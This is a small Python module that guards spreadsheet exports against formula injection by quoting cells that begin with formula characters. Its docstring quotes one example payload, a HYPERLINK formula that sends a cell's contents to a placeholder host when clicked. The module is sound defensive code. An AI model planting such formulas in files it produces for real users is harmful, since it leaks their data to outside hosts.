"""The formula guard: a cell a spreadsheet would run as a formula is written as text.

A value starting with = + - @, a tab or a carriage return is evaluated by Excel and
LibreOffice (`=HYPERLINK("http://x/?"&A1)` leaks a row when clicked); a leading ' makes it
text. Every file collab writes for spreadsheets passes its cells through `neutralise`
(ledger exports, analysis tables, the audit log's CSV, the closing ledger), and the ledger
reader drops that quote again (`values.text`), so an export re-imports as it was.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = "=+-@\t\r"


def neutralise(value: Any) -> Any:
    """`value`, with a leading ' when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value[:1] in FORMULA_STARTS:
        return "'" + value
    return value
